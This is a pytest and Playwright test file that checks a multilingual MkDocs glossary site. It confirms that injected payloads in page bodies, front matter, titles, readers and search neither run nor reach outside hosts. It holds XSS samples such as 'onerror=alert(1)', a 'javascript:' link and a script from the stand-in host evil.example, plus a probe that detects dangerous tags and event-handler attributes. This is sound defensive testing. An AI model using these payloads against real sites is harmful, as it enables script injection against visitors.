"""No payload runs or reaches out, on pages that are built although the checks refuse them."""

import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from tests.loopback import loopback
from tests.payloads import Payload, payloads, term_page
from tests.project import copy_project

from tlumach.library.files import read_library
from tlumach.plugin.mkdocs_runner import build_site
from tlumach.plugin.views import READERS
from tlumach.tasks.tasks import task_runner_in
from tlumach.tracking import tracker_of

TOGETHER = 10  # payloads on a page
LANGUAGES = ("ru", "uk", "en")
TOLD = "payload ran"
LISTEN = f"for (const name of ['alert', 'confirm', 'prompt', 'msgbox']) window[name] = () => console.log('{TOLD}')"
# What the browser itself made of the page: it reads the elements, not their source. Then it touches everything.
PROBE = r"""async () => {
  const wrong = [];
  const refused = /^(script|style|iframe|object|embed|form|svg|math|base|meta|link|template|video|audio)$/i;
  const attribute = /^(on.*|srcdoc|formaction|action|ping|xlink:href)$/i;
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes)
      if (attribute.test(name)) wrong.push(`${element.tagName} ${name}=${value}`);
    const to = element.href && (element.href.baseVal ?? element.href);
    if (to && !/^(https?|mailto):/.test(to)) wrong.push(`${element.tagName} to ${to}`);
    const own = element.tagName === 'IMG' && element.src.startsWith('data:image/'); // in a reader; a picture runs nothing
    if (element.src && !own && new URL(element.src).host !== location.host) wrong.push(`${element.tagName} from ${element.src}`);
    const ours = /\/assets\/(javascripts\/(term-filter|palette)|stylesheets\/(tlumach|markup))\.[0-9a-f]{8}\.(js|css)$/;
    const is_ours = ours.test(element.src ?? '') || (element.rel === 'stylesheet' && ours.test(element.href));
    if (element.closest('article') && refused.test(element.tagName) && !is_ours) wrong.push(element.tagName);
  }
  if (document.querySelector('meta[http-equiv=refresh], base')) wrong.push('refresh or base');
  if (document.querySelectorAll('#__config').length > 1) wrong.push('#__config');
  for (const element of document.querySelectorAll('details')) element.open = true;
  const kinds = ['mouseover', 'mousemove', 'pointerenter', 'focus', 'focusin', 'input', 'beforetoggle', 'animationstart'];
  for (const element of document.querySelectorAll('article *'))
    for (const kind of kinds) element.dispatchEvent(new Event(kind, { bubbles: true }));
  await new Promise((done) => setTimeout(done, 30)); // some events come late
  return wrong;
}"""


class Watch:
    """A window that writes down whatever a payload could do."""

    def __init__(self, page: Page, home: str) -> None:
        self.page, self.home = page, home
        self.seen: list[str] = []
        page.add_init_script(LISTEN)
        page.on("console", lambda said: self.seen.append(said.text) if TOLD in said.text else None)
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: None if request.url.startswith(home) else self.seen.append(request.url))
        page.context.route(lambda url: not url.startswith(home), lambda route: route.abort())

    def open(self, path: str) -> list[str]:
        """Open a page, look at what the browser made of it, touch everything on it; return what is wrong."""
        self.seen = []
        self.page.goto(self.home + path)
        return [*self.page.evaluate(PROBE), *self.seen]


def batches(found: list[Payload]) -> Iterator[list[Payload]]:
    yield from (found[at : at + TOGETHER] for at in range(0, len(found), TOGETHER))


def bodies() -> Iterator[tuple[str, str, str]]:
    """Yield language, path and text of the pages with payloads in the body: some of one kind on each, a language in turn."""
    numbers = itertools.count()
    for kind, found in itertools.groupby((each for each in payloads() if not each.field), key=lambda each: each.kind):
        for some in batches(list(found)):
            number = next(numbers)
            text = "\n\n".join(each.text for each in some)
            yield LANGUAGES[number % 3], f"p{number}/index.md", f"# {kind}\n\n{text}\n"


def front_matters() -> Iterator[tuple[str, str, str]]:
    """Yield language, path and text of terms with payloads in every field of the front matter, in every language."""
    by_field = itertools.groupby((each for each in payloads() if each.field), key=lambda each: each.field)
    fields = {field: [each.text for each in found] for field, found in by_field}
    for number in range(max(map(len, fields.values()))):
        page = term_page({field: texts[number % len(texts)] for field, texts in fields.items()})
        yield from ((language, f"glossary/p{number}.md", page) for language in LANGUAGES)


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The real project with a page for each payload, built as if the checks had found nothing."""
    root = copy_project(tmp_path_factory.mktemp("poisoned") / "project")
    for language, path, text in (*bodies(), *front_matters(), *titles()):
        file = root / "docs" / language / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8", newline="")
    library, _ = read_library(root)
    assert library is not None
    runner = task_runner_in(root)
    build_site(root, root / "site", tracker_of(library, runner), runner)
    (root / "site" / "control.html").write_text(CONTROL, encoding="utf-8")
    return root


CONTROL = """<!doctype html><article><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>
<details ontoggle=alert(1)>x</details><script src="https://evil.example/x.js"></script></article>"""


@pytest.fixture(scope="module")
def home(poisoned: Path) -> Iterator[str]:
    with loopback(poisoned / "site") as address:
        yield address


@pytest.fixture(scope="module")
def watch(browser: Browser, home: str, poisoned: Path) -> Iterator[Watch]:
    context = browser.new_context()
    yield Watch(context.new_page(), home)
    context.close()


def test_the_watch_sees_what_a_payload_does(watch: Watch) -> None:
    seen = watch.open("control.html")
    assert TOLD in seen and "https://evil.example/x.js" in seen
    assert any("onerror" in found for found in seen) and any("javascript:" in found for found in seen)


TITLE = "# `<img src=x onerror=alert(1)>` и &lt;svg onload=alert(1)&gt;\n\nТекст.\n"


def titles() -> Iterator[tuple[str, str, str]]:
    """Yield pages whose title shows HTML as it should be shown: menus, lists and cards print it too."""
    for language in LANGUAGES:
        yield language, "titled/index.md", TITLE
        yield language, "titled/more.md", TITLE.replace("Текст", "[Термин](../glossary/titled.md)")
        yield language, "glossary/titled.md", f"---\nkind: notion\nas_of: '2022'\n---\n{TITLE}"


def address(language: str, path: str) -> str:
    return f"{'' if language == 'ru' else f'{language}/'}{path.removesuffix('.md')}.html"


def test_no_payload_in_a_text_runs(watch: Watch) -> None:
    pages = {address(language, path): text for language, path, text in bodies()}
    assert len(pages) > 30
    assert {path: (wrong, pages[path]) for path in pages if (wrong := watch.open(path))} == {}


def test_no_payload_in_a_front_matter_runs(watch: Watch) -> None:
    pages = {address(language, path): text for language, path, text in front_matters()}
    assert len(pages) >= 9
    assert {path: (wrong, pages[path]) for path in pages if (wrong := watch.open(path))} == {}


def test_none_runs_in_the_one_file_readers(watch: Watch, poisoned: Path) -> None:
    readers = [f"{READERS}/{file.name}" for file in (poisoned / "site" / READERS).glob("*.html")]
    assert len(readers) > 10
    assert {path: wrong for path in readers if (wrong := watch.open(path))} == {}


def test_html_that_a_title_shows_does_not_run(watch: Watch) -> None:
    pages = [address(language, path) for language, path, _ in titles()]
    assert {path: wrong for path in pages if (wrong := watch.open(path))} == {}


@pytest.mark.parametrize("language", LANGUAGES)
def test_none_runs_where_pages_are_listed(watch: Watch, language: str) -> None:
    for path in ("index.md", "glossary/index.md", "about.md"):
        assert watch.open(address(language, path)) == []


@pytest.mark.parametrize("language", LANGUAGES)
def test_none_runs_in_search(watch: Watch, language: str) -> None:
    watch.open(address(language, "about.md"))
    watch.page.locator(".md-search__input").click()
    for query in ("alert", "script", "onerror", "javascript"):
        watch.page.locator(".md-search__input").fill(query)
        watch.page.wait_for_timeout(400)
        assert [*watch.page.evaluate(PROBE), *watch.seen] == []
    assert watch.page.locator("#search-results *").count() > 0
